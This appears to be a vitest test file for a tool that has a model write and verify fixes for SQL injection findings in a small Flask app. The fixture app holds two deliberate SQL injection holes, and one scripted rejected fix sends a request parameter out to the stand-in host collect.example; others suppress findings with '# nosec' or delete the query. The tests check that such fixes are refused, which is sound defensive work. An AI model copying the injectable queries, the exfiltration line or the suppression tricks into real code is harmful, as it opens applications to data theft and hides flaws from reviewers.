import { type EngineFinding, type EngineResult, type EngineSession, openEngine } from '@preflight/analyzers'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Block } from '../files/blocks.ts'
import { NO_SANDBOX, TestRung } from '../own-tests/test-rung.ts'
import { proveFixes } from '../prove-fixes.ts'
import { Tree } from '../tree.ts'
import { writeFixes } from './write-fixes.ts'
import type { FailedTry, FixWriter } from './writer.ts'

const APP = `import sqlite3
from flask import Flask, request

app = Flask(__name__)
db = sqlite3.connect("shelves.db")


@app.route("/shelves")
def shelves():
    rows = db.execute(f"SELECT id FROM shelves WHERE owner = '{request.args['owner']}'").fetchall()
    return {"rows": rows}


@app.route("/rooms")
def rooms():
    rows = db.execute("SELECT id FROM rooms ORDER BY " + request.args["order"]).fetchall()
    return {"rows": rows}
`
const ROWS = `    rows = db.execute("SELECT id FROM rooms ORDER BY " + request.args["order"]).fetchall()`
const GOOD: Block = {
  search: ROWS,
  replace: `    columns = {"name": "name", "size": "size"}\n    rows = db.execute("SELECT id FROM rooms ORDER BY " + columns.get(request.args["order"], "id")).fetchall()`,
}

let root: string
let engine: EngineSession
let before: EngineResult
beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'preflight-written-'))
  writeFileSync(join(root, 'app.py'), APP)
  engine = openEngine({ root, threads: 1 })
  before = await engine.scan()
}, 60_000)
afterAll(async () => {
  await engine.close()
  rmSync(root, { recursive: true, force: true })
})

const isQuery = ({ rule_id }: EngineFinding) => rule_id === 'sql-injection'

/** Writes one block after the other, and has nothing against any, or what is said. */
function writerOf(blocks: readonly Block[], reasons: readonly string[] = []) {
  const seen: (readonly FailedTry[])[] = []
  const reviewed: Block[] = []
  const writer: FixWriter = {
    write: async ({ tries }) => {
      seen.push([...tries])
      const block = blocks[tries.length]
      return block ? { blocks: [block], summary: 'Orders by known columns only.' } : { none: 'it has nothing more to say' }
    },
    review: async ({ blocks: ofFix }) => {
      reviewed.push(...ofFix)
      return { reasons }
    },
  }
  return { writer, seen, reviewed }
}

async function written(writer: FixWriter) {
  const trial = { tree: new Tree(root), before, scan: () => engine.scan(), tests: new TestRung(NO_SANDBOX) }
  const first = await proveFixes(trial, before.findings.filter(isQuery))
  const { outcome, tried } = await writeFixes(trial, first, writer, isQuery)
  expect(readFileSync(join(root, 'app.py'), 'utf8')).toBe(APP)
  return { outcome, tried, text: outcome.changes[0]?.text ?? null, reason: outcome.refused[0]?.reason ?? null }
}

test('a fix that was written is proven on top of those of recipes, on two more rungs', { timeout: 60_000 }, async () => {
  const { writer, reviewed } = writerOf([GOOD])
  const { outcome, tried, text } = await written(writer)
  expect(outcome.proven.map(({ finding, proposal }) => [finding.line, proposal.recipe])).toEqual([[10, 'sql-text-python'], [16, 'model']].map(([line, recipe]) => [line, recipe === 'model' ? 'model' : expect.any(String)]))
  expect([tried.size, outcome.refused, reviewed]).toEqual([1, [], [GOOD]])
  expect(text).toContain('owner = ?')
  expect(text).toContain('columns.get(')
  expect(outcome.rungs.map(({ rung, passed }) => [rung, passed])).toEqual([1, 2, 3, 4, 5, 7, 8, 9, 10].map((rung) => [rung, true]))
})

test('a try that fails is told with its rung, and after three nothing more is written', { timeout: 60_000 }, async () => {
  const { writer, seen, reviewed } = writerOf([
    { search: 'return {"rows": rows}', replace: 'return {}' },
    { search: ROWS, replace: `${ROWS}  # safe` },
    { search: ROWS, replace: `    import urllib.request\n    urllib.request.urlopen("https://collect.example/" + request.args["order"])\n${GOOD.replace}` },
    GOOD,
  ])
  const { outcome, reason } = await written(writer)
  expect(seen.map((tries) => tries.map(({ rung }) => rung))).toEqual([[], ['matches-once'], ['matches-once', 'finding-gone']])
  expect(seen[2]?.[0]?.detail).toContain('occurs 2 times')
  expect(reason).toContain('the model wrote 3 fixes, and none could be proven')
  expect(reason).toContain('it brings the address https://collect.example/')
  expect([outcome.proven.length, reviewed]).toEqual([1, []])
})

test.each<[string, string, string]>([
  ['that silences its finding', `${GOOD.replace}  # nosec`, 'suppress'],
  ['that deletes the query', '    rows = []', 'the code that does the work is taken out'],
  ['with a package that the project does not have', GOOD.replace.replace('    columns', '    import sqlguard\n    sqlguard.check(request.args)\n    columns'), 'it imports sqlguard'],
])('a fix %s is refused', { timeout: 60_000 }, async (_, replace, why) => {
  const { writer, seen } = writerOf([{ search: ROWS, replace }])
  await written(writer)
  expect(seen[1]?.[0]?.detail).toContain(why)
})

test('a fix that the review rejects is not made, and the reasons are told', { timeout: 60_000 }, async () => {
  const { writer, seen } = writerOf([GOOD, GOOD, GOOD], ['It drops the column that the page orders by'])
  const { reason, outcome } = await written(writer)
  expect(seen[2]?.map(({ rung, detail }) => [rung, detail])).toEqual(Array.from({ length: 2 }, () => ['review', 'It drops the column that the page orders by']))
  expect([outcome.proven.length, reason]).toEqual([1, expect.stringContaining('It drops the column')])
})

test('without an answer the finding says why, and the fixes of recipes stand', { timeout: 60_000 }, async () => {
  const { outcome, reason } = await written(writerOf([]).writer)
  expect([outcome.proven.length, reason]).toEqual([1, 'it has nothing more to say'])
})
